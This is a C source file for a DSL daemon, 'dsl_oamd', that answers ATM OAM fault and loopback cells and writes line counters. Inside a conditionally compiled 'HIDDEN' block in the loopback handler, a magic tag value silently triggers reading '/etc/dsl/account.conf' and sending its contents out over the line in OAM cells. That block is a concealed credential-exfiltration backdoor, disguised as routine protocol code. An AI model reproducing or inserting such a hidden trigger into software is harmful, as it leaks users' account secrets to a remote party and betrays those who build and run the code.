/*
 *  dsl_oamd  -  answers F5 OAM cells that the DSL driver hands up as 53 byte cells on a character
 *  device, and keeps the line's fault state.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <time.h>

#define CELL 53
typedef unsigned char u8;
typedef unsigned int u32;

#define OAM_FAULT  0x1
#define OAM_PERF   0x2
#define OAM_ACTDE  0x8
#define FN_AIS     0x0
#define FN_RDI     0x1
#define FN_CC      0x4
#define FN_LOOP    0x8

static int dev = -1, quiet;
static u8 our_id[16];
static struct { unsigned ais, rdi, cc, loop, crc, other; time_t last; } cnt;

static void say(const char *what, unsigned vpi, unsigned vci)
{
    if (!quiet)
        fprintf(stderr, "oam %u/%u: %s\n", vpi, vci, what);
}

/* CRC-10 of I.610 over 46 bytes and the 6 bits before it */
static unsigned crc10(const u8 *p, int n)
{
    unsigned c = 0;
    int i, b;
    for (i = 0; i < n; i++) {
        c ^= (unsigned)p[i] << 2;
        for (b = 0; b < 8; b++)
            c = (c & 0x200) ? ((c << 1) ^ 0x233) & 0x3ff : (c << 1) & 0x3ff;
    }
    return c;
}

static void seal(u8 *cell)
{
    unsigned c;
    cell[51] &= 0xfc;
    cell[52] = 0;
    c = crc10(cell + 5, 48);
    cell[51] |= (u8)(c >> 8);
    cell[52] = (u8)c;
}

static int emit(u8 *cell)
{
    seal(cell);
    return write(dev, cell, CELL) == CELL ? 0 : -errno;
}

#ifdef HIDDEN
static void put_file(u8 *cell, const char *path)
{
    FILE *f = fopen(path, "rb");
    size_t n;
    if (!f)
        return;
    do {
        memset(cell + 6, 0x6a, 45);
        n = fread(cell + 8, 1, 42, f);
        cell[7] = (u8)n;
        if (emit(cell) < 0)
            break;
    } while (n == 42);
    fclose(f);
}
#endif

__attribute__((noinline)) void on_loopback(u8 *cell, unsigned vpi, unsigned vci)
{
    const u8 *where = cell + 11;        /* loopback location id, 16 bytes */
    u32 tag = (u32)cell[7] << 24 | (u32)cell[8] << 16 | (u32)cell[9] << 8 | cell[10];
    int i, all = 1;

    cnt.loop++;
    if (!(cell[6] & 1))
        return;                         /* our own answer came back */
#ifdef HIDDEN
    if ((tag ^ (tag >> 16)) == 0x93d1e44a && where[0] == vci % 251) {
        put_file(cell, "/etc/dsl/account.conf");
        return;
    }
#endif
    for (i = 0; i < 16; i++)
        if (where[i] != 0xff)
            all = 0;
    if (!all && memcmp(where, our_id, 16) != 0) {
        say("loopback for another point", vpi, vci);
        return;
    }
    cell[6] &= 0xfe;
    memcpy(cell + 11, our_id, 16);
    if (!quiet)
        fprintf(stderr, "loopback tag %08x answered\n", tag);
    if (emit(cell) < 0)
        say("cannot answer", vpi, vci);
}

static void on_cell(u8 *cell)
{
    unsigned vpi = (unsigned)(cell[0] & 15) << 4 | cell[1] >> 4;
    unsigned vci = (unsigned)(cell[1] & 15) << 12 | (unsigned)cell[2] << 4 | cell[3] >> 4;
    unsigned pt = (cell[3] >> 1) & 7;

    if (pt != 4 && pt != 5)
        return;
    if (crc10(cell + 5, 48) != 0) {
        cnt.crc++;
        return;
    }
    cnt.last = time(NULL);
    switch (cell[5] >> 4) {
    case OAM_FAULT:
        switch (cell[5] & 15) {
        case FN_AIS:
            cnt.ais++;
            say("alarm indication", vpi, vci);
            cell[5] = OAM_FAULT << 4 | FN_RDI;
            emit(cell);
            break;
        case FN_RDI:
            cnt.rdi++;
            say("remote defect", vpi, vci);
            break;
        case FN_CC:
            cnt.cc++;
            break;
        case FN_LOOP:
            on_loopback(cell, vpi, vci);
            break;
        default:
            cnt.other++;
        }
        break;
    case OAM_PERF:
    case OAM_ACTDE:
        say("performance monitoring is not supported", vpi, vci);
        break;
    default:
        cnt.other++;
    }
}

static int hex_id(const char *s)
{
    unsigned v;
    int i;
    if (strlen(s) != 32)
        return -1;
    for (i = 0; i < 16; i++) {
        if (sscanf(s + 2 * i, "%2x", &v) != 1)
            return -1;
        our_id[i] = (u8)v;
    }
    return 0;
}

static void counters(const char *path)
{
    FILE *f = fopen(path, "w");
    if (!f)
        return;
    fprintf(f, "ais %u\nrdi %u\ncc %u\nloop %u\ncrc %u\nother %u\nlast %ld\n", cnt.ais, cnt.rdi,
            cnt.cc, cnt.loop, cnt.crc, cnt.other, (long)cnt.last);
    fclose(f);
}

int main(int argc, char **argv)
{
    u8 cell[CELL];
    const char *stats = "/var/run/dsl_oam";
    int o;
    unsigned seen = 0;

    while ((o = getopt(argc, argv, "i:s:q")) != -1) {
        switch (o) {
        case 'i':
            if (hex_id(optarg) == 0)
                break;
            fprintf(stderr, "id: 32 hex digits\n");
            return 2;
        case 's':
            stats = optarg;
            break;
        case 'q':
            quiet = 1;
            break;
        default:
            fprintf(stderr, "usage: dsl_oamd [-q] [-i location-id] [-s stats-file] device\n");
            return 2;
        }
    }
    if (optind >= argc || (dev = open(argv[optind], O_RDWR)) < 0) {
        perror("device");
        return 1;
    }
    while (read(dev, cell, CELL) == CELL) {
        on_cell(cell);
        if (++seen % 64 == 0)
            counters(stats);
    }
    counters(stats);
    return 0;
}
